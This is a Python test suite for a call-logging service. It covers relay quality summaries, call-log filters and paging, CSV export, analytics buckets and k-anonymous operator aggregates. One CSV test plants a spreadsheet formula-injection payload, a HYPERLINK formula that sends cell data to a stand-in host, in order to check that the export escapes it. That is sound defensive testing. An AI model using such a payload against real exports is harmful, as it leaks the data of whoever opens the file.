"""Relay summaries in, call logs out (control/calllogs.py), against SQLite and PostgreSQL.

Summaries are posted as a relay node's agent would (docs/relay-summaries.md); calls are made
through the real API (click, answer, hang up) with the fake clock moved between them.
"""

from __future__ import annotations

import csv
import io
import math
from collections.abc import AsyncIterator
from dataclasses import dataclass
from typing import Any

import httpx
import pytest

from control.app import create_app
from control.ids import MAX_PAGE
from control.models import Call, CallStatus
from control.quality import Period, bucket_start, csv_cell
from control.selection import RegionMap
from control.store import Store
from tests.test_api import (  # noqa: F401 (store: a fixture shared with test_api)
    NODEH,
    OPH,
    T0,
    Api,
    Clock,
    World,
    bearer,
    beat,
    click,
    err,
    make_settings,
    new_tenant,
    store,
    world,
)
from tests.test_store import pg  # noqa: F401 (the shared PostgreSQL fixture)

DAY = 86400.0


@pytest.fixture
async def api(store: Store) -> AsyncIterator[Api]:  # noqa: F811
    """test_api's app, with a region map that places the test client (127.0.0.1)."""
    clock = Clock()
    settings = make_settings(clock, region_map=RegionMap({"127.0.0.0/8": "eu-west"}))
    app = create_app(settings, store)
    transport = httpx.ASGITransport(app=app)
    async with httpx.AsyncClient(transport=transport, base_url="http://test") as c:
        yield Api(c, clock, store)


def flow(
    packets: int, lost: int = 0, jitter: float = 2.0, mos: float | None = 4.3
) -> dict[str, Any]:
    return {
        "packets": packets,
        "bytes": packets * 160,
        "lost": lost,
        "jitter_ms": jitter,
        "mos": mos,
    }


def summary(
    seq: int,
    token_id: str,
    allocation: str = "a1",
    *,
    started: float = T0,
    at: float | None = None,
    final: bool = False,
    up: dict[str, Any] | None = None,
    down: dict[str, Any] | None = None,
    kinds: tuple[str, ...] = ("audio",),
) -> dict[str, Any]:
    up = up or flow(100)
    down = down or flow(100)
    streams = [
        {
            "direction": "to_peer",
            "ssrc": 1000 + i,
            "kind": k,
            "clock_rate": 48000,
            "packets": up["packets"],
            "bytes": up["bytes"],
            "lost": up["lost"],
            "jitter_ms": up["jitter_ms"],
        }
        for i, k in enumerate(kinds)
    ]
    return {
        "seq": seq,
        "token_id": token_id,
        "allocation": allocation,
        "final": final,
        "started_at": started,
        "at": started + 5 if at is None else at,
        "streams": streams,
        "directions": {"to_peer": up, "to_client": down},
        "relay": {"dropped": 1, "rxq_overflow": 0, "delay_us_p99": 80},
    }


async def send(
    api: Api, summaries: list[dict[str, Any]], node: str = "n1", status: int = 200
) -> dict[str, Any]:
    r = await api.c.post(
        "/v1/nodes/summaries", json={"node_id": node, "summaries": summaries}, headers=NODEH
    )
    assert r.status_code == status, r.text
    out: dict[str, Any] = r.json()
    return out


@dataclass
class Placed:
    call_id: str
    visitor_token: str  # its id: what relays key summaries by
    visitor_bearer: dict[str, str]
    staff_token: str | None


async def place(
    api: Api, w: World, at: float, *, answer: str | None = None, talk: float = 0
) -> Placed:
    """A call clicked at ``at`` on ``w.link``; answered by staff member ``answer`` and hung up
    by the visitor ``talk`` seconds later, or left ringing when ``answer`` is None."""
    api.clock.t = at
    await beat(api)
    c = await click(api, w)
    staff_token = None
    if answer is not None:
        r = await api.c.post(f"/v1/staff/{answer}/token", headers=w.th)
        assert r.status_code == 201, r.text
        console = bearer(r.json()["token"])
        r = await api.c.post(f"/v1/calls/{c['call_id']}/answer", headers=console)
        assert r.status_code == 200, r.text
        staff_token = r.json()["token_id"]
        api.clock.t += talk
        r = await api.c.post(f"/v1/calls/{c['call_id']}/hangup", headers=bearer(c["token"]))
        assert r.status_code == 200, r.text
    return Placed(c["call_id"], c["token_id"], bearer(c["token"]), staff_token)


async def detail(api: Api, w: World, call_id: str) -> dict[str, Any]:
    r = await api.c.get(f"/v1/calllogs/{call_id}", headers=w.th)
    assert r.status_code == 200, r.text
    out: dict[str, Any] = r.json()
    return out


# --- ingestion ---------------------------------------------------------------------------------


async def test_summaries_join_calls_and_replays_count_once(api: Api) -> None:
    w = await world(api)
    p = await place(api, w, T0, answer=w.staff, talk=60)
    assert p.staff_token is not None
    batch = [
        summary(1, p.visitor_token, "v1", up=flow(100, lost=0), down=flow(100, lost=10, mos=3.1)),
        summary(
            2, p.staff_token, "s1", started=T0 + 1, up=flow(200, lost=20, mos=3.4), down=flow(200)
        ),
    ]
    assert await send(api, batch) == {"accepted": 2, "stored": 2, "replayed": 0, "dropped": 0}
    # the same request again (an agent replaying its spool): nothing counted twice
    assert await send(api, batch) == {"accepted": 2, "stored": 0, "replayed": 2, "dropped": 0}
    assert await api.store.summary_seq("n1") == 2
    d = await detail(api, w, p.call_id)
    assert [(a["allocation"], a["role"]) for a in d["allocations"]] == [
        ("v1", "visitor"),
        ("s1", "staff"),
    ]
    # visitor's to_peer and staff's to_client go from the visitor; the worst of the two counts
    assert d["from_visitor"] == {"loss_pct": 0.0, "jitter_ms": 2.0, "mos": 4.3}
    assert d["to_visitor"] == {"loss_pct": pytest.approx(9.091), "jitter_ms": 2.0, "mos": 3.1}
    assert d["mos"] == 3.1 and d["media"] == ["audio"] and d["quality_final"] is False
    assert d["bytes"] == (100 + 100 + 200 + 200) * 160
    assert d["allocations"][0]["to_client"]["loss_pct"] == pytest.approx(9.091)
    assert d["allocations"][0]["relay"] == {"dropped": 1, "rxq_overflow": 0, "delay_us_p99": 80}

    # newer cumulative counters replace the older ones; an old seq does nothing
    newer = summary(
        3,
        p.visitor_token,
        "v1",
        up=flow(500),
        down=flow(500, mos=4.2),
        kinds=("audio", "video", "screen"),
    )
    stale = summary(2, p.visitor_token, "v1", up=flow(1), down=flow(1, mos=1.0))
    assert (await send(api, [newer, stale]))["stored"] == 1
    d = await detail(api, w, p.call_id)
    v1 = d["allocations"][0]
    assert v1["to_peer"]["packets"] == 500 and v1["to_client"]["mos"] == 4.2
    assert len(v1["streams"]) == 3 and d["media"] == ["audio", "video", "screen"]
    assert d["to_visitor"]["mos"] == 3.4 and d["from_visitor"]["mos"] == 4.3  # s1 sent 3.4
    assert d["bytes"] == (500 + 500 + 200 + 200) * 160

    # final: the allocation's last word, which a later stray summary does not undo
    await send(api, [summary(4, p.visitor_token, "v1", final=True, up=flow(600), down=flow(600))])
    await send(api, [summary(5, p.staff_token, "s1", started=T0 + 1, final=True)])
    d = await detail(api, w, p.call_id)
    assert d["quality_final"] is True and all(a["final"] for a in d["allocations"])
    out = await send(api, [summary(6, p.visitor_token, "v1", up=flow(7), down=flow(7))])
    assert out["accepted"] == 6
    assert (await detail(api, w, p.call_id))["allocations"][0]["to_peer"]["packets"] == 600


async def test_unknown_tokens_are_counted_and_dropped(api: Api) -> None:
    w = await world(api)
    p = await place(api, w, T0)
    console = (await api.c.post(f"/v1/staff/{w.staff}/token", headers=w.th)).json()["token_id"]
    batch = [
        summary(10, "f" * 32),  # no such token
        summary(11, console),  # a staff console token belongs to no call
        summary(12, p.visitor_token),
    ]
    assert await send(api, batch) == {"accepted": 12, "stored": 1, "replayed": 0, "dropped": 2}
    assert await send(api, batch) == {"accepted": 12, "stored": 0, "replayed": 3, "dropped": 0}
    assert await send(api, []) == {"accepted": 12, "stored": 0, "replayed": 0, "dropped": 0}
    # seqs are per node
    other = await send(api, [summary(1, p.visitor_token, "b1")], node="n2")
    assert other["accepted"] == 1 and other["stored"] == 1
    assert len((await detail(api, w, p.call_id))["allocations"]) == 2


def _bad(**change: Any) -> dict[str, Any]:
    s = summary(1, "t" * 32)
    s.update(change)
    return s


@pytest.mark.parametrize(
    "body",
    [
        {"node_id": "n1", "summaries": [summary(i + 1, "t" * 32) for i in range(501)]},
        {
            "node_id": "n1",
            "summaries": [_bad(streams=summary(1, "t", kinds=("audio",) * 17)["streams"])],
        },
        {"node_id": "n1", "summaries": [_bad(seq=0)]},
        {"node_id": "n1", "summaries": [_bad(seq=2**63)]},
        {"node_id": "n1", "summaries": [_bad(), _bad()]},  # one seq twice
        {"node_id": "n1", "summaries": [_bad(at=T0 - 100)]},  # before started_at
        {"node_id": "n1", "summaries": [_bad(directions={"to_peer": flow(-1)})]},
        {"node_id": "n1", "summaries": [_bad(directions={"to_peer": flow(1, mos=6.0)})]},
        {"node_id": "n1", "summaries": [_bad(directions={"to_peer": flow(10**16)})]},
        {"node_id": "n1", "summaries": [_bad(directions={"sideways": flow(1)})]},
        {"node_id": "n1", "summaries": [_bad(token_id="")]},
        {"node_id": "n1", "summaries": [_bad(allocation="a" * 65)]},
        {"node_id": "n1", "summaries": [_bad(colour="red")]},
        {"node_id": "n1", "summaries": [_bad(relay={"dropped": -1})]},
        {
            "node_id": "n1",
            "summaries": [
                _bad(
                    streams=[
                        {
                            "direction": "to_peer",
                            "ssrc": 2**32,
                            "kind": "audio",
                            "packets": 1,
                            "bytes": 1,
                        }
                    ]
                )
            ],
        },
        {
            "node_id": "n1",
            "summaries": [
                _bad(
                    streams=[
                        {
                            "direction": "to_peer",
                            "ssrc": 1,
                            "kind": "hologram",
                            "packets": 1,
                            "bytes": 1,
                        }
                    ]
                )
            ],
        },
        {"node_id": "bad node", "summaries": []},
        {"summaries": []},
        {"node_id": "n1"},
    ],
)
async def test_bad_summaries_are_422(api: Api, body: dict[str, Any]) -> None:
    r = await api.c.post("/v1/nodes/summaries", json=body, headers=NODEH)
    assert err(r, 422, "invalid")
    assert await api.store.summary_seq("n1") == 0


async def test_nan_jitter_is_422(api: Api) -> None:
    content = (
        b'{"node_id": "n1", "summaries": [{"seq": 1, "token_id": "t", "allocation": "a",'
        b' "started_at": 1, "at": 2, "directions": {"to_peer": {"packets": 1, "bytes": 1,'
        b' "jitter_ms": NaN}}}]}'
    )
    r = await api.c.post(
        "/v1/nodes/summaries",
        content=content,
        headers={**NODEH, "Content-Type": "application/json"},
    )
    err(r, 422, "invalid")


async def test_summaries_need_the_node_secret(api: Api) -> None:
    w = await world(api)
    body = {"node_id": "n1", "summaries": [summary(1, "t" * 32)]}
    for headers in ({}, bearer("wrong"), w.th, OPH, w.sh):
        err(await api.c.post("/v1/nodes/summaries", json=body, headers=headers), 401)
    assert await api.store.summary_seq("n1") == 0


# --- call logs ------------------------------------------------------------------------------------


@dataclass
class Office:
    w: World
    bob: str  # a second staff member
    support: dict[str, Any]  # a second link, ringing Bob


async def office(api: Api, name: str = "Acme") -> Office:
    w = await world(api, name)
    r = await api.c.post("/v1/staff", json={"name": "Bob"}, headers=w.th)
    bob = r.json()["id"]
    r = await api.c.post("/v1/links", json={"name": "Support", "ring_staff": [bob]}, headers=w.th)
    return Office(w, bob, r.json())


async def test_calllog_entries_filters_and_paging(api: Api) -> None:
    o = await office(api)
    w = o.w
    support = World(w.tenant, w.th, o.bob, w.sh, o.support)
    a = await place(api, w, T0, answer=w.staff, talk=90)  # Sales, Ann, ended
    b = await place(api, support, T0 + 100, answer=o.bob, talk=30)  # Support, Bob, ended
    c = await place(api, w, T0 + 200)  # Sales, ringing, then missed
    d = await place(api, support, T0 + 300, answer=o.bob, talk=10)
    assert b.staff_token is not None
    await send(
        api,
        [
            summary(1, a.visitor_token, up=flow(100, mos=4.4), down=flow(100, mos=4.1)),
            summary(2, b.visitor_token, up=flow(100, lost=50, mos=2.2), down=flow(100, mos=4.0)),
            summary(3, b.staff_token, up=flow(100, mos=3.9), down=flow(100, mos=2.9)),
            summary(4, d.visitor_token, up=flow(100, mos=3.6), down=flow(100, mos=3.7)),
        ],
    )
    api.clock.t = T0 + 1000

    async def ids(**params: Any) -> list[str]:
        r = await api.c.get("/v1/calllogs", params=params, headers=w.th)
        assert r.status_code == 200, r.text
        return [x["id"] for x in r.json()["calls"]]

    assert await ids() == [d.call_id, c.call_id, b.call_id, a.call_id]  # newest first
    assert await ids(link=w.link["id"]) == [c.call_id, a.call_id]
    assert await ids(staff=o.bob) == [d.call_id, b.call_id]
    assert await ids(staff=w.staff) == [a.call_id]
    assert await ids(outcome="missed") == [c.call_id]
    assert await ids(outcome="ended", link=o.support["id"]) == [d.call_id, b.call_id]
    assert await ids(since=T0 + 100, until=T0 + 300) == [c.call_id, b.call_id]
    assert await ids(mos_below=3.0) == [b.call_id]  # 2.2 from the visitor
    assert await ids(mos_below=4.0) == [d.call_id, b.call_id]
    assert await ids(link="nope") == []

    seen: list[str] = []
    cursor = None
    while True:
        params: dict[str, Any] = {"limit": 1}
        if cursor:
            params["cursor"] = cursor
        page = (await api.c.get("/v1/calllogs", params=params, headers=w.th)).json()
        seen += [x["id"] for x in page["calls"]]
        cursor = page["next_cursor"]
        if cursor is None:
            break
    assert seen == [d.call_id, c.call_id, b.call_id, a.call_id]

    entries = {x["id"]: x for x in (await api.c.get("/v1/calllogs", headers=w.th)).json()["calls"]}
    e = entries[b.call_id]
    assert e["outcome"] == "ended" and e["duration"] == 30.0
    assert e["created_at"] == T0 + 100 and e["answered_at"] == T0 + 100
    assert e["ended_at"] == T0 + 130
    assert (e["link_id"], e["link_name"]) == (o.support["id"], "Support")
    assert (e["staff_id"], e["staff_name"]) == (o.bob, "Bob")
    assert e["relay_region"] == "eu" and e["media"] == ["audio"]
    assert e["from_visitor"]["mos"] == 2.2 and e["to_visitor"]["mos"] == 3.9
    assert e["from_visitor"]["loss_pct"] == pytest.approx(100 * 50 / 150, abs=1e-3)
    assert e["visitor"] == {
        "browser": "Chrome",
        "os": "Windows",
        "prefix": "127.0.0.0/24",
        "region": "eu-west",
    }
    missed = entries[c.call_id]
    assert missed["outcome"] == "missed" and missed["duration"] is None
    assert missed["staff_id"] is None and missed["mos"] is None and missed["bytes"] == 0
    assert missed["media"] == [] and missed["from_visitor"]["mos"] is None
    # a deleted link keeps its calls, without a name
    assert (await api.c.delete(f"/v1/links/{o.support['id']}", headers=w.th)).status_code == 204
    e = await detail(api, w, b.call_id)
    assert e["link_name"] is None and e["link_id"] == o.support["id"]


@pytest.mark.parametrize(
    "params",
    [
        {"limit": 0},
        {"limit": MAX_PAGE + 1},
        {"since": -1},
        {"since": 200, "until": 100},
        {"outcome": "exploded"},
        {"mos_below": 9},
        {"cursor": "garbage"},
        {"link": "a b"},
        {"format": "xml"},
    ],
)
async def test_calllog_bad_queries(api: Api, params: dict[str, Any]) -> None:
    _, th = await new_tenant(api)
    err(await api.c.get("/v1/calllogs", params=params, headers=th), 422, "invalid")


async def test_calllog_detail_is_404_for_missing(api: Api) -> None:
    w = await world(api)
    err(await api.c.get(f"/v1/calllogs/{'x' * 32}", headers=w.th), 404, "not_found")
    err(await api.c.get(f"/v1/calllogs/{'x' * 32}"), 401)


async def test_calllog_csv(api: Api) -> None:
    w = await world(api)
    evil = '=HYPERLINK("http://x.example/?"&A1,"click")'
    r = await api.c.patch(f"/v1/links/{w.link['id']}", json={"name": evil}, headers=w.th)
    assert r.status_code == 200
    r = await api.c.patch(f"/v1/staff/{w.staff}", json={"name": '@Ann, "the" boss'}, headers=w.th)
    assert r.status_code == 200
    a = await place(api, w, T0, answer=w.staff, talk=61.5)
    b = await place(api, w, T0 + 10)
    await send(api, [summary(1, a.visitor_token, up=flow(100, mos=4.0), down=flow(100, mos=3.5))])

    r = await api.c.get("/v1/calllogs.csv", headers=w.th)
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("text/csv")
    assert "attachment" in r.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert [x["call_id"] for x in rows] == [b.call_id, a.call_id]
    row = rows[1]
    assert row["link_name"] == "'" + evil  # not a formula any more
    assert row["staff_name"] == '\'@Ann, "the" boss'
    assert row["outcome"] == "ended" and row["duration_s"] == "61.5"
    assert row["created_at"] == "2023-11-14T22:13:20Z"
    assert row["media"] == "audio" and row["mos"] == "3.5" and row["to_visitor_mos"] == "3.5"
    assert row["visitor_prefix"] == "127.0.0.0/24" and row["visitor_region"] == "eu-west"
    assert rows[0]["answered_at"] == "" and rows[0]["mos"] == ""
    # ?format=csv is the same export, and the filters apply
    same = await api.c.get("/v1/calllogs", params={"format": "csv"}, headers=w.th)
    assert same.text == r.text
    only = await api.c.get("/v1/calllogs.csv", params={"outcome": "ended"}, headers=w.th)
    assert [x["call_id"] for x in csv.DictReader(io.StringIO(only.text))] == [a.call_id]
    err(await api.c.get("/v1/calllogs.csv", params={"until": 1, "since": 2}, headers=w.th), 422)
    err(await api.c.get("/v1/calllogs.csv"), 401)


async def test_calllog_csv_streams_many_pages(api: Api) -> None:
    w = await world(api)
    n = 1100  # three pages of the export
    for i in range(n):
        await api.store.create_call(
            Call(
                id=f"c{i:05d}",
                tenant_id=w.tenant,
                link_id=w.link["id"],
                status=CallStatus.MISSED,
                created_at=T0 - i,
            )
        )
    r = await api.c.get("/v1/calllogs.csv", headers=w.th)
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert [x["call_id"] for x in rows] == [f"c{i:05d}" for i in range(n)]


def test_csv_cell() -> None:
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert csv_cell(text) == "'" + text
    assert csv_cell("plain") == "plain" and csv_cell(None) == "" and csv_cell(3) == "3"
    assert csv_cell(2.5) == "2.5" and csv_cell(True) == "true"


# --- analytics --------------------------------------------------------------------------------------


def test_buckets() -> None:
    day = int(T0 // DAY)  # 2023-11-14, a Tuesday
    assert bucket_start(day, Period.DAY) == day * DAY
    assert bucket_start(day, Period.WEEK) == (day - 1) * DAY  # Monday 2023-11-13
    assert bucket_start(day, Period.MONTH) == 1698796800  # 2023-11-01
    assert bucket_start(0, Period.WEEK) == -3 * DAY  # 1970-01-01 was a Thursday
    assert bucket_start(day + 17, Period.MONTH) == 1701388800  # 2023-12-01


async def test_analytics(api: Api) -> None:
    o = await office(api)
    w = o.w
    support = World(w.tenant, w.th, o.bob, w.sh, o.support)
    mon = 1699833600.0  # Monday 2023-11-13 00:00 UTC
    calls = [
        await place(api, w, mon + 3600, answer=w.staff, talk=120),  # Mon, Sales, Ann
        await place(api, w, mon + 7200),  # Mon, Sales, missed
        await place(api, support, mon + DAY + 60, answer=o.bob, talk=60),  # Tue, Support
        await place(api, w, mon + 7 * DAY, answer=w.staff, talk=30),  # Mon 20 Nov
        await place(api, support, mon + 18 * DAY, answer=o.bob, talk=600),  # Dec 1
    ]
    await send(api, [summary(1, calls[0].visitor_token, up=flow(1000), down=flow(1000))])
    api.clock.t = mon + 20 * DAY
    since, until = mon, mon + 20 * DAY

    async def get(**params: Any) -> dict[str, Any]:
        r = await api.c.get(
            "/v1/analytics", params={"since": since, "until": until, **params}, headers=w.th
        )
        assert r.status_code == 200, r.text
        out: dict[str, Any] = r.json()
        return out

    days = await get(period="day")
    assert [(b["date"], b["calls"], b["answered"]) for b in days["buckets"]] == [
        ("2023-11-13", 2, 1),
        ("2023-11-14", 1, 1),
        ("2023-11-20", 1, 1),
        ("2023-12-01", 1, 1),
    ]
    first = days["buckets"][0]
    assert first["answered_rate"] == 0.5 and first["minutes"] == 2.0
    assert first["bytes"] == 2000 * 160 and first["start"] == mon and first["key"] is None
    assert days["totals"]["calls"] == 5 and days["totals"]["minutes"] == pytest.approx(13.5)
    assert days["totals"]["answered_rate"] == 0.8

    weeks = await get(period="week")
    assert [(b["date"], b["calls"]) for b in weeks["buckets"]] == [
        ("2023-11-13", 3),
        ("2023-11-20", 1),
        ("2023-11-27", 1),
    ]
    months = await get(period="month")
    assert [(b["date"], b["calls"], b["minutes"]) for b in months["buckets"]] == [
        ("2023-11-01", 4, 3.5),
        ("2023-12-01", 1, 10.0),
    ]

    by_link = await get(period="month", by="link")
    got = {(b["date"], b["name"]): (b["calls"], b["answered"]) for b in by_link["buckets"]}
    assert got == {
        ("2023-11-01", "Sales"): (3, 2),
        ("2023-11-01", "Support"): (1, 1),
        ("2023-12-01", "Support"): (1, 1),
    }
    by_staff = await get(period="week", by="staff")
    got = {(b["date"], b["name"]): b["minutes"] for b in by_staff["buckets"]}
    assert got == {
        ("2023-11-13", "Ann"): 2.0,
        ("2023-11-13", None): 0.0,
        ("2023-11-13", "Bob"): 1.0,
        ("2023-11-20", "Ann"): 0.5,
        ("2023-11-27", "Bob"): 10.0,
    }
    unanswered = [b for b in by_staff["buckets"] if b["key"] is None]
    assert unanswered[0]["calls"] == 1 and unanswered[0]["answered"] == 0

    # defaults: about 30 days back to the end of today (UTC); ranges are bounded per period
    r = await api.c.get("/v1/analytics", headers=w.th)
    assert r.status_code == 200 and r.json()["until"] == mon + 21 * DAY
    assert sum(b["calls"] for b in r.json()["buckets"]) == 5
    for params in (
        {"period": "day", "since": 0, "until": 401 * DAY},
        {"period": "year"},
        {"by": "colour"},
        {"since": 10, "until": 5},
    ):
        err(await api.c.get("/v1/analytics", params=params, headers=w.th), 422, "invalid")
    err(await api.c.get("/v1/analytics"), 401)
    err(await api.c.get("/v1/analytics", headers=OPH), 401)


# --- operator aggregates ---------------------------------------------------------------------------


async def test_operator_aggregates_k_anonymity(api: Api) -> None:
    a = await world(api, "Alpha")
    b = await world(api, "Beta")
    day = 1699833600.0  # Monday 2023-11-13
    placed = []
    for i, w in enumerate((a, a, b, b)):  # two tenants, four calls: below the floor
        placed.append(await place(api, w, day + 60 * i, answer=w.staff, talk=60))
    await send(
        api,
        [
            summary(i + 1, p.visitor_token, up=flow(10, mos=3.0 + i / 10), down=flow(10))
            for i, p in enumerate(placed)
        ],
    )
    api.clock.t = day + 2 * DAY
    params = {"period": "day", "since": day - DAY, "until": day + 2 * DAY}

    async def get() -> dict[str, Any]:
        r = await api.c.get("/v1/operator/aggregates", params=params, headers=OPH)
        assert r.status_code == 200, r.text
        out: dict[str, Any] = r.json()
        return out

    out = await get()
    assert out["groups"] == [] and out["suppressed"] == 1 and out["k"] == 5
    placed.append(await place(api, b, day + 600))  # the fifth call, never answered
    api.clock.t = day + 2 * DAY
    out = await get()
    assert out["suppressed"] == 0
    [g] = out["groups"]
    assert (g["region"], g["date"], g["calls"], g["answered"]) == ("eu", "2023-11-13", 5, 4)
    assert g["answered_rate"] == 0.8 and g["minutes"] == 4.0 and g["bytes"] == 4 * 20 * 160
    assert g["mean_mos"] == pytest.approx((3.0 + 3.1 + 3.2 + 3.3) / 4)
    assert math.isclose(g["start"], day)
    # nothing that names a tenant or a call
    text = str(out)
    for w in (a, b):
        assert w.tenant not in text and w.link["id"] not in text and w.staff not in text
    assert all(p.call_id not in text for p in placed)
    # a lone call in another region on another day is its own group, and suppressed
    await beat(api, "n9", "us-east")
    r = await api.c.post(
        "/v1/tenants", json={"name": "Gamma", "allowed_regions": ["us-east"]}, headers=OPH
    )
    gamma = r.json()
    gh = bearer(gamma["api_key"]["key"])
    r = await api.c.post("/v1/links", json={"name": "L"}, headers=gh)
    api.clock.t = day + DAY
    await beat(api, "n9", "us-east")
    assert (await api.c.post(f"/v1/links/{r.json()['public_id']}/calls")).status_code == 201
    api.clock.t = day + 2 * DAY
    out = await get()
    assert [g["region"] for g in out["groups"]] == ["eu"] and out["suppressed"] == 1
    weekly = (
        await api.c.get("/v1/operator/aggregates", params={**params, "period": "week"}, headers=OPH)
    ).json()
    assert [(g["region"], g["calls"]) for g in weekly["groups"]] == [("eu", 5)]
    assert weekly["suppressed"] == 1
    # tenants never get it; bad periods are refused
    for headers in (a.th, a.sh, NODEH, {}):
        err(await api.c.get("/v1/operator/aggregates", headers=headers), 401)
    err(await api.c.get("/v1/operator/aggregates", params={"period": "hour"}, headers=OPH), 422)


async def test_new_tenant_sees_empty_logs(api: Api) -> None:
    _, th = await new_tenant(api)
    assert (await api.c.get("/v1/calllogs", headers=th)).json() == {
        "calls": [],
        "next_cursor": None,
    }
    out = (await api.c.get("/v1/analytics", headers=th)).json()
    assert out["buckets"] == [] and out["totals"]["calls"] == 0
    assert out["totals"]["answered_rate"] is None
    r = await api.c.get("/v1/calllogs.csv", headers=th)
    assert r.text.splitlines() == [
        ",".join(
            (
                "call_id",
                "created_at",
                "answered_at",
                "ended_at",
                "duration_s",
                "outcome",
                "link_id",
                "link_name",
                "staff_id",
                "staff_name",
                "media",
                "relay_region",
                "bytes",
                "from_visitor_loss_pct",
                "from_visitor_jitter_ms",
                "from_visitor_mos",
                "to_visitor_loss_pct",
                "to_visitor_jitter_ms",
                "to_visitor_mos",
                "mos",
                "visitor_browser",
                "visitor_os",
                "visitor_prefix",
                "visitor_region",
            )
        )
    ]
